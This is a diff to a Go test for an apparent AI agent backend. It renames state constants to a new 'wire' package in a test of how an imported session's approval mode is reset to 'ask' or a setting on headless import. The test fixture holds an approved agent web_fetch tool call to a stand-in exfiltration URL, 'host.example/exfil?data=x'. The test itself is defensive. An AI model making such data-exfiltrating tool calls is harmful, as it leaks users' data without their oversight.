@@ -17,6 +17,7 @@ import (
 	"pilot/backend/llm"
 	"pilot/backend/mcp"
 	"pilot/backend/store"
+	"pilot/backend/wire"
 )
 
 var (
@@ -171,12 +172,12 @@ func TestHeadlessImportAtDefaultMode(t *testing.T) {
 	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
 	input := json.RawMessage(`{"url":"http://host.example/exfil?data=x"}`)
 	doc, _ := json.Marshal(store.Export{Format: store.ExportFormat, Version: store.ExportVersion, Project: "/elsewhere",
-		Session: store.ExportSession{SessionInfo: store.SessionInfo{Title: "Shared", Provider: "anthropic", Model: "m", CreatedAt: at, UpdatedAt: at, State: store.SessionIdle}, ApprovalMode: "all"},
+		Session: store.ExportSession{SessionInfo: store.SessionInfo{Title: "Shared", Provider: "anthropic", Model: "m", CreatedAt: at, UpdatedAt: at, State: wire.SessionIdle}, ApprovalMode: "all"},
 		Messages: []store.ExportMessage{
-			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockText, Text: "fetch it"}}, State: store.MessageComplete, CreatedAt: at},
-			{Role: llm.RoleAssistant, Content: []llm.ContentBlock{{Type: llm.BlockToolUse, ID: "f1", Name: "web_fetch", Input: input}}, State: store.MessageComplete, CreatedAt: at,
-				ToolCalls: []store.ExportToolCall{{Call: store.Call{ToolUseID: "f1", Name: "web_fetch", Input: input, Output: "page", Status: store.ToolDone, Approval: store.ApprovalApproved, StartedAt: at, FinishedAt: at}}}},
-			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockToolResult, ToolUseID: "f1", Content: "page"}}, State: store.MessageComplete, CreatedAt: at},
+			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockText, Text: "fetch it"}}, State: wire.MessageComplete, CreatedAt: at},
+			{Role: llm.RoleAssistant, Content: []llm.ContentBlock{{Type: llm.BlockToolUse, ID: "f1", Name: "web_fetch", Input: input}}, State: wire.MessageComplete, CreatedAt: at,
+				ToolCalls: []store.ExportToolCall{{Call: store.Call{ToolUseID: "f1", Name: "web_fetch", Input: input, Output: "page", Status: wire.ToolDone, Approval: store.ApprovalApproved, StartedAt: at, FinishedAt: at}}}},
+			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockToolResult, ToolUseID: "f1", Content: "page"}}, State: wire.MessageComplete, CreatedAt: at},
 		}})
 	for _, c := range []struct{ settings, want string }{{"", "ask"}, {`{"approvalMode":"edits"}`, "edits"}} {
 		home, dir := t.TempDir(), tempProject(t, nil)
